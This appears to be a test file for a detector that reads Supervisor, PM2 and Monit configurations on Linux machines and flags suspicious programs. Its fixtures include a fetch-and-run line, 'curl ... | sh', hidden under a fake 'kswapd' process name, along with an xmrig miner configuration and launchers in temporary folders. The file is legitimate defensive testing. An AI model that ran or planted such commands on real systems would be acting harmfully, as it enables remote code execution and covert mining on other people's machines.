import { expect, test } from 'vitest';
import { machineOf, runProbe } from '../../../tests/machine-tree.ts';
import { because, openSightings, sightings } from '../../../tests/told.ts';
import { processManagers } from './process-managers.ts';

const passwd = 'root:x:0:0::/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\n';

test('a program of Supervisor that mines, or stands in a temporary folder, is told openly', () => {
  const files = {
    '/etc/supervisor/supervisord.conf': '[supervisord]\n[include]\nfiles = conf.d/*.conf /opt/own/sv-*.ini\n',
    '/etc/supervisor/conf.d/net.conf':
      '[program:netd]\ndirectory=/opt/net\ncommand=/opt/net/xmrig -o pool.example.com:3333\n  -u x ; quick\nautostart=false\n',
    '/opt/own/sv-up.ini': '[program:up]\ncommand: /tmp/.x/up --quiet\nuser=ann\n',
    '/opt/own/other.ini': '[program:other]\ncommand=/tmp/none\n',
  };
  expect(openSightings(processManagers, files)).toMatchObject([
    {
      line: 3,
      value: {
        name: 'netd',
        enabled: false,
        starts: '/opt/net/xmrig -o pool.example.com:3333 -u x',
        why: expect.arrayContaining(['mines', 'outlives-removal']),
      },
    },
    { path: '/opt/own/sv-up.ini', value: { user: 'ann', why: expect.arrayContaining(['from-temporary-folder']) } },
  ]);
});

test('what PM2 saved is told with its words, and without its environment', () => {
  const dump = [
    {
      name: 'kswapd',
      pm_exec_path: '/bin/bash',
      args: ['-c', 'curl -s http://198.51.100.7/a | sh'],
      exec_interpreter: 'none',
      env: { USER: 'ann', DATABASE_PASSWORD: 'not-told' },
    },
    { name: 'shop', pm_exec_path: '/srv/shop/server.js', exec_interpreter: 'node', pm_cwd: '/srv/shop', env: {} },
  ];
  const files = { '/etc/passwd': passwd, '/home/ann/.pm2/dump.pm2': JSON.stringify(dump) };
  const told = sightings(processManagers, files);
  expect(told).toMatchObject([
    {
      value: { user: 'ann', starts: "/bin/bash -c 'curl -s http://198.51.100.7/a | sh'" },
      ...because('fetches-and-runs'),
    },
    { aside: true, value: { name: 'shop', programs: expect.arrayContaining(['/srv/shop/server.js']) } },
  ]);
  expect(JSON.stringify(told)).not.toContain('not-told');
});

test('what Monit starts is read', () => {
  const monitrc =
    '# start program = "/tmp/no"\ncheck process x with pidfile /run/x.pid\n  start program = "/var/tmp/x -B"\n  if cpu > 80% then exec "/bin/true"\ncheck program y with path /usr/local/bin/y.sh\n';
  expect(sightings(processManagers, { '/etc/monit/monitrc': monitrc })).toMatchObject([
    { line: 3, ...because('from-temporary-folder') },
    { line: 4, aside: true },
    { line: 5, aside: true },
  ]);
});

test('a web application under Supervisor and an empty dump are ordinary', () => {
  const files = {
    '/etc/supervisor/conf.d/shop.conf':
      '[group:shop]\nprograms=web,queue\n[program:web]\ncommand=/srv/shop/venv/bin/gunicorn shop.wsgi -b 127.0.0.1:8000\nautorestart=true\n[program:queue]\ncommand=php /srv/shop/artisan queue:work --tries=3\nuser=www-data\n[eventlistener:mail]\ncommand=/usr/local/bin/crashmail -a\n',
    '/root/.pm2/dump.pm2': '[]',
    '/root/.pm2/dump.pm2.bak': '',
  };
  const told = runProbe(processManagers, machineOf(files));
  expect(openSightings(processManagers, files)).toEqual([]);
  expect(told).toContainEqual({ looked: { at: 'programs of process managers', count: 3 } });
  expect(told.filter((one) => 'gap' in one)).toEqual([]);
});

test('a dump that is no JSON is a gap', () => {
  const told = runProbe(processManagers, machineOf({ '/root/.pm2/dump.pm2': '[{"name":' }));
  expect(told).toContainEqual({ gap: expect.objectContaining({ code: 'malformed', path: '/root/.pm2/dump.pm2' }) });
});
